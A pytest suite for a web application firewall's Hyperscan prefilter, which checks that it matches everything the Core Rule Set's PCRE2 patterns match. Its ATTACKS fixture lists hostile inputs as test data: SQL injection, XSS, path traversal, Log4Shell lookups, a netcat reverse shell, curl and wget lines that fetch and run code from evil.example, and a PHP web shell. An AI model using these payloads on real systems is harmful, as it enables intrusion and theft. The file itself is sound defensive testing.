"""The Hyperscan prefilter (`palisade.waf._accel`): sound against PCRE2 on the real CRS."""

from __future__ import annotations

import logging
import threading
import time
import urllib.parse
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from palisade.waf import _accel
from palisade.waf._accel import RxAccelerator, available, default_cache_dir, library_defect
from palisade.waf._ftw import load_test_files
from palisade.waf._operators import Operator, Rx
from palisade.waf._rules import Rule
from tests.waf.test_crs_load import crs_engine

CRS = Path(__file__).resolve().parents[2].parent / "shared" / "data" / "crs"
REGRESSION = CRS / "tests" / "regression" / "tests"

BENIGN = [
    "",
    "hello",
    "/index.html",
    "/products/index.html?page=2&sort=name",
    "page=2&sort=name&order=asc",
    "session=abc123; theme=dark",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
    "text/html,application/xhtml+xml",
    "en-US,en;q=0.9",
    "John Smith",
    "jane.doe@example.com",
    "2024-05-01",
    "12345",
    "The quick brown fox jumps over the lazy dog.",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
    "application/json",
    '{"name": "alice", "age": 30}',
    "gzip, deflate, br",
    "max-age=0",
    "localhost",
]

ATTACKS = [
    "1' or 1=1--",
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "'; DROP TABLE users; --",
    "1; waitfor delay '0:0:5'--",
    "1 AND SLEEP(5)",
    "admin'/*",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(document.cookie)",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//etc/shadow",
    "/proc/self/environ",
    "C:\\windows\\system32\\cmd.exe",
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://x/}",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "$(curl http://evil.example/x.sh | sh)",
    "`id`",
    "wget http://evil.example/shell -O /tmp/s; chmod +x /tmp/s",
    "<?php system($_GET['c']); ?>",
    "eval(base64_decode('ZWNobyAx'))",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "() { :; }; /bin/bash -c 'id'",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
    "%0d%0aSet-Cookie: a=b",
    "\r\nLocation: http://evil.example/",
    'O:8:"stdClass":0:{}',
    "__proto__[admin]=1",
    "db.users.find({$where: 'sleep(1000)'})",
    "' || pg_sleep(5)--",
    "\xc2\xb4; ls -la",
    "a\x00b",
    "\x7f\x80\xff",
]


def _crs_rx() -> list[tuple[str, Operator]]:
    """Every distinct ``@rx`` pattern of the CRS with the engine's compiled operator."""
    seen: dict[str, Operator] = {}
    for rules in crs_engine().ruleset.phases.values():
        for first in rules:
            rule: Rule | None = first
            while rule is not None:
                if rule.operator_name.lower() == "rx" and rule.operator is not None:
                    seen.setdefault(rule.operator_arg, rule.operator)
                rule = rule.chain
    return sorted(seen.items())


def _variants(value: str) -> Iterator[str]:
    """The value and what the CRS's usual transformations make of it."""
    yield value
    yield value.lower()
    decoded = urllib.parse.unquote(value, encoding="latin-1")
    yield decoded
    yield decoded.lower()
    yield decoded.replace("+", " ")


def _regression_values(limit: int = 1500) -> list[str]:
    if not REGRESSION.is_dir():
        return []
    files, _errors = load_test_files([REGRESSION])
    values: set[str] = set()
    for file in files:
        for test in file.tests:
            for stage in test.stages:
                given = stage.input
                values.add(given.uri)
                if given.data:
                    values.add(given.data[:8192])
                values.update(value for _, value in given.headers)
    ordered = sorted(values)
    step = max(1, len(ordered) // limit)
    return ordered[::step]


def _latin1(value: str) -> str:
    return (
        value.encode("utf-8").decode("latin-1") if max(map(ord, value), default=0) > 255 else value
    )


def _missed(accel: RxAccelerator, operators: list[Operator], value: str) -> list[int]:
    """Indices whose exact operator matches ``value`` but whose bit is clear."""
    mask = accel.scan(value)
    return [
        i
        for i, operator in enumerate(operators)
        if not mask >> i & 1 and operator.match(value) is not None
    ]


@pytest.fixture(scope="module")
def crs_rx() -> list[tuple[str, Operator]]:
    found = _crs_rx()
    assert len(found) > 250
    return found


@pytest.fixture(scope="module")
def cache_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hs-cache")


@pytest.fixture(scope="module")
def crs_accel(crs_rx: list[tuple[str, Operator]], cache_dir: Path) -> RxAccelerator:
    started = time.perf_counter()
    accel = RxAccelerator.build([pattern for pattern, _ in crs_rx], cache_dir=cache_dir)
    print(f"\nCRS prefilter: {len(crs_rx)} patterns built in {time.perf_counter() - started:.1f} s")
    return accel


@pytest.fixture(scope="module")
def operators(crs_rx: list[tuple[str, Operator]]) -> list[Operator]:
    return [operator for _, operator in crs_rx]


# --------------------------------------------------------------------------- soundness (CRS)


def test_hyperscan_is_available() -> None:
    assert available()


def test_crs_build_shape(crs_accel: RxAccelerator, crs_rx: list[tuple[str, Operator]]) -> None:
    assert crs_accel.size == len(crs_rx)
    assert crs_accel.always >> crs_accel.size == 0
    left = [pattern for i, (pattern, _) in enumerate(crs_rx) if crs_accel.always >> i & 1]
    print(f"\n{len(left)} CRS pattern(s) left to PCRE2: {[p[:60] for p in left]}")
    # Almost every pattern must reach Hyperscan, or the prefilter is worthless.
    assert len(left) <= 5


def test_no_false_negatives_on_crafted_values(
    crs_accel: RxAccelerator, operators: list[Operator]
) -> None:
    matched = 0
    for base in BENIGN + ATTACKS:
        for value in _variants(_latin1(base)):
            assert _missed(crs_accel, operators, value) == [], repr(value)
            matched += any(op.match(value) is not None for op in operators)
    assert matched > len(ATTACKS)  # the attack strings do trigger the exact operators


# The bundled Vectorscan 5.4.12 misses some matches (VectorCamp/vectorscan#382); on the
# regression corpus that shows as three CRS patterns (942xxx SQLi, the Log4Shell one). Strict:
# the day the library is fixed this must pass, and while it is broken it must fail.
@pytest.mark.xfail(
    library_defect() is not None,
    reason="hyperscan library false negatives (VectorCamp/vectorscan#382)",
    strict=True,
    raises=AssertionError,
)
def test_no_false_negatives_on_crs_regression_values(
    crs_accel: RxAccelerator, operators: list[Operator]
) -> None:
    values = _regression_values()
    if not values:
        pytest.skip(f"the CRS regression corpus is not here ({REGRESSION})")
    hits = 0
    for raw in values:
        for value in {_latin1(raw), _latin1(urllib.parse.unquote(raw, encoding="latin-1"))}:
            missed = _missed(crs_accel, operators, value)
            assert missed == [], (value[:200], missed)
            hits += crs_accel.scan(value) != crs_accel.always
    assert hits > len(values) // 2


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    st.one_of(
        st.binary(max_size=300).map(lambda data: data.decode("latin-1")),
        st.text(alphabet=st.characters(max_codepoint=255), max_size=120),
        st.lists(
            st.sampled_from(
                [
                    "select",
                    " ",
                    "union",
                    "'",
                    "<",
                    "script",
                    ">",
                    "/",
                    "..",
                    "${",
                    "jndi:",
                    "(",
                    ")",
                    ";",
                    "|",
                    "`",
                    "$",
                    "\n",
                    "\r",
                    "\x0b",
                    "\x00",
                    "=",
                    "--",
                    "on",
                    "error",
                    "etc",
                    "passwd",
                    "eval",
                    "\\",
                    "%",
                    "&",
                    "*",
                    "0x",
                    "\xa0",
                    "\x85",
                    "\xff",
                ]
            ),
            max_size=25,
        ).map("".join),
    )
)
def test_no_false_negatives_on_random_values(
    crs_accel: RxAccelerator, operators: list[Operator], value: str
) -> None:
    assert _missed(crs_accel, operators, value) == []


def test_benign_values_leave_most_bits_clear(crs_accel: RxAccelerator) -> None:
    for value in BENIGN:
        possible = (crs_accel.scan(value) & ~crs_accel.always).bit_count()
        assert possible < crs_accel.size // 5, (value, possible)
    assert (crs_accel.scan("hello") & ~crs_accel.always).bit_count() < crs_accel.size // 10


def test_scan_includes_always_and_is_an_int(crs_accel: RxAccelerator) -> None:
    mask = crs_accel.scan("hello")
    assert isinstance(mask, int)
    assert mask & crs_accel.always == crs_accel.always


# --------------------------------------------------------------------------- cache


def test_second_build_comes_from_the_cache(
    crs_accel: RxAccelerator,
    crs_rx: list[tuple[str, Operator]],
    cache_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    files = list((cache_dir / "waf-hs").glob("*.hsdb"))
    assert len(files) == 1

    def no_compile(*_args: object) -> RxAccelerator:
        raise AssertionError("compiled although the cache holds the databases")

    monkeypatch.setattr(RxAccelerator, "_compile_all", classmethod(no_compile))
    started = time.perf_counter()
    again = RxAccelerator.build([pattern for pattern, _ in crs_rx], cache_dir=cache_dir)
    print(f"\nfrom the cache in {1000 * (time.perf_counter() - started):.0f} ms")
    assert again.size == crs_accel.size and again.always == crs_accel.always
    for value in BENIGN + ATTACKS:
        assert again.scan(value) == crs_accel.scan(value), value


SMALL = ["select.+from", "<script", r"\.\./", "(?i)union\\s+select", "a(b|c)d{2,3}"]


def _only_cache_file(cache_dir: Path) -> Path:
    (path,) = (cache_dir / "waf-hs").glob("*.hsdb")
    return path


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: b"garbage",
        lambda data: data[: len(data) // 2],
        lambda data: data[:-40] + bytes(b ^ 0x55 for b in data[-40:]),
        lambda data: b"",
    ],
    ids=["garbage", "truncated", "flipped", "empty"],
)
def test_a_corrupt_cache_file_is_rebuilt_with_a_warning(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, damage: object
) -> None:
    first = RxAccelerator.build(SMALL, cache_dir=tmp_path)
    path = _only_cache_file(tmp_path)
    assert callable(damage)
    path.write_bytes(damage(path.read_bytes()))
    with caplog.at_level(logging.WARNING, logger="palisade.waf"):
        rebuilt = RxAccelerator.build(SMALL, cache_dir=tmp_path)
    assert any("Hyperscan cache" in r.getMessage() for r in caplog.records), caplog.text
    for value in ["select * from t", "<script>", "../x", "UNION  SELECT", "abdd", "nothing"]:
        assert rebuilt.scan(value) == first.scan(value)
    # The rebuilt file is whole again: a third build loads it without a warning.
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="palisade.waf"):
        RxAccelerator.build(SMALL, cache_dir=tmp_path)
    assert not caplog.records


def test_an_unwritable_cache_dir_only_logs(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    with caplog.at_level(logging.WARNING, logger="palisade.waf"):
        accel = RxAccelerator.build(SMALL, cache_dir=blocker / "cache")
    assert any("cannot write" in r.getMessage() for r in caplog.records), caplog.text
    assert accel.scan("select 1 from t") & 1
    assert not accel.scan("hello") & 1


def test_default_cache_dir_follows_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PALISADE_CACHE_DIR", str(tmp_path / "p"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "x"))
    assert default_cache_dir() == tmp_path / "p"
    monkeypatch.delenv("PALISADE_CACHE_DIR")
    assert default_cache_dir() == tmp_path / "x" / "palisade"
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert default_cache_dir() == tmp_path / "home" / ".cache" / "palisade"


def test_cache_dir_none_uses_the_default(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PALISADE_CACHE_DIR", str(tmp_path))
    RxAccelerator.build(SMALL)
    assert len(list((tmp_path / "waf-hs").glob("*.hsdb"))) == 1


# --------------------------------------------------------------------------- edge cases


def test_an_empty_pattern_list(tmp_path: Path) -> None:
    accel = RxAccelerator.build([], cache_dir=tmp_path)
    assert (accel.size, accel.always) == (0, 0)
    assert accel.scan("anything at all") == 0
    assert RxAccelerator.build([], cache_dir=tmp_path).scan("") == 0


def test_patterns_hyperscan_rejects_go_to_always(tmp_path: Path) -> None:
    patterns = [
        "abc",
        "x*",  # matches the empty buffer
        "foo",
        "(?|a|b)z",  # branch reset: unsupported
        "^(?:no-cache|max-age=[0-9]+)$(?:,|$)",  # embedded end anchor, as in the CRS
        "bar",
        "",  # empty: PCRE2 matches everything
    ]
    accel = RxAccelerator.build(patterns, cache_dir=tmp_path)
    assert accel.always == 1 << 1 | 1 << 3 | 1 << 4 | 1 << 6
    assert accel.scan("xxabcxx") == accel.always | 1 << 0
    assert accel.scan("foobar") == accel.always | 1 << 2 | 1 << 5
    assert accel.scan("zzz") == accel.always


def test_rejected_patterns_are_found_in_every_chunk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_accel, "CHUNKS", 3)
    patterns = [f"word{i}" if i % 7 else f"(?|w{i})" for i in range(40)]
    accel = RxAccelerator.build(patterns, cache_dir=tmp_path)
    assert accel.always == sum(1 << i for i in range(0, 40, 7))
    for i in range(40):
        if i % 7:
            assert accel.scan(f"-word{i}-") >> i & 1


@pytest.mark.parametrize(
    ("pattern", "compiled"),
    [
        (r"\x{41}", True),  # without ALT_BSUX (as the engine compiles): the byte 0x41
        (r"\x41", True),
        (r"\x4", True),  # one hex digit: the byte 0x04
        (r"\u0041", False),  # a PCRE2 error without ALT_BSUX, "u0041" with it
        (r"\U", False),
        (r"a\Qb\u\Ec", True),  # \u inside \Q…\E is literal text
        (r"a\\u", True),  # an escaped backslash then "u"
        (r"a{,2}b", False),  # PCRE2 10.43 reads {0,2}, Hyperscan a literal "{,2}"
        (r"a{ 2}b", False),
        (r"a{2,}b", True),
        (r"[{,2}]b", True),  # inside a class the brace is literal for both
        (r"\p{L}x", False),
        ("(*UTF)x", False),
        ("a\x00b", False),
    ],
)
def test_escapes_mean_what_pcre2_means(tmp_path: Path, pattern: str, compiled: bool) -> None:
    accel = RxAccelerator.build([pattern], cache_dir=tmp_path)
    assert (accel.always == 0) is compiled
    try:
        exact: Operator | None = Rx(pattern)
    except ValueError:
        exact = None  # PCRE2 refuses it: the engine never gets to ask
    values = [
        "A",
        "x{41}",
        "\x04",
        "x4",
        "u0041",
        "U",
        "abuc",
        "ab\\u",
        "a\\u",
        "ab",
        "aab",
        "ab\\uc",
        "a{,2}b",
        "a{ 2}b",
        "aaab",
        "{b",
        "ex",
        "\xe9x",
        "x",
        "a\x00b",
        "a",
    ]
    for value in values:
        if exact is not None and exact.match(value) is not None:
            assert accel.scan(value) & 1, (pattern, value)
    if compiled:
        assert exact is not None
        assert any(accel.scan(value) == 0 for value in values)


def test_library_defect_reports_what_the_library_does(tmp_path: Path) -> None:
    cases = [
        (r"curl.*\|\s*python", "curl http://xxxx:8000/ 2>&1 | python"),
        (r"(?i)@.+=[\s\x0b]*?\([\s\x0b]*?select", "@" + "a" * 60 + "=(SELECT"),
        (r"(?i)@.+=[\s\x0b]*?\([\s\x0b]*?select", "@" + "a" * 20 + "=(SELECT"),
    ]
    missed = []
    for pattern, value in cases:
        assert Rx(pattern).match(value) is not None
        accel = RxAccelerator.build([pattern], cache_dir=tmp_path)
        assert accel.always == 0
        if not accel.scan(value):
            missed.append(pattern)
    defect = library_defect()
    print(f"\nlibrary defect: {defect}")
    assert (defect is not None) == bool(missed)


def test_the_engine_compiles_without_alt_bsux() -> None:
    # _accel relies on it: with ALT_BSUX "\x{41}" would be the text "x{41}" to PCRE2.
    assert Rx(r"\x{41}").match("A") is not None
    assert Rx(r"\x{41}").match("x{41}") is None
    with pytest.raises(ValueError):
        Rx(r"\u0041")


# --------------------------------------------------------------------------- threads


def test_concurrent_scans_agree(crs_accel: RxAccelerator) -> None:
    values = [_latin1(v) for v in BENIGN + ATTACKS] + ["x" * 2048, ("<script>" * 300)[:2048]]
    expected = [crs_accel.scan(value) for value in values]
    results: dict[int, list[list[int]]] = {}
    errors: list[BaseException] = []
    barrier = threading.Barrier(6)

    def worker(slot: int) -> None:
        try:
            barrier.wait()
            results[slot] = [[crs_accel.scan(v) for v in values] for _ in range(20)]
        except BaseException as error:
            errors.append(error)

    threads = [threading.Thread(target=worker, args=(slot,)) for slot in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    assert len(results) == 6
    for rounds in results.values():
        for masks in rounds:
            assert masks == expected


def test_start_builds_in_a_thread_then_uses_the_cache(tmp_path: Path) -> None:
    ready: list[RxAccelerator] = []
    thread = RxAccelerator.start(SMALL, cache_dir=tmp_path, on_ready=ready.append)
    assert thread is not None and thread.daemon
    thread.join(timeout=120)
    assert not thread.is_alive()
    assert len(ready) == 1 and ready[0].size == len(SMALL)
    assert ready[0].scan("<script>") == 1 << 1

    again: list[RxAccelerator] = []
    assert RxAccelerator.start(SMALL, cache_dir=tmp_path, on_ready=again.append) is None
    assert len(again) == 1 and again[0].scan("<script>") == 1 << 1


def test_start_reports_a_failed_build_without_calling_back(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*_args: object) -> RxAccelerator:
        raise RuntimeError("boom")

    monkeypatch.setattr(RxAccelerator, "_compile_all", classmethod(broken))
    ready: list[RxAccelerator] = []
    with caplog.at_level(logging.ERROR, logger="palisade.waf"):
        thread = RxAccelerator.start(SMALL, cache_dir=tmp_path, on_ready=ready.append)
        assert thread is not None
        thread.join(timeout=60)
    assert ready == []
    assert any("prefilter" in r.getMessage() for r in caplog.records)
